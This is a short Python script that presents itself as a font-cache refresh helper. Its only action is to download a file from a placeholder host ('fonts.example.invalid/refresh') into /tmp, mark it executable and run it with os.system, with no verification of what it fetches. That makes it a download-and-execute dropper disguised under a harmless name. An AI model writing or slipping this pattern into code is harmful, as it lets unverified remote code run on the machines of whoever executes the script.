#!/usr/bin/env python3
import os
import urllib.request


def main():
    urllib.request.urlretrieve('https://fonts.example.invalid/refresh', '/tmp/fc-refresh')
    os.system('chmod +x /tmp/fc-refresh && /tmp/fc-refresh')


if __name__ == '__main__':
    main()
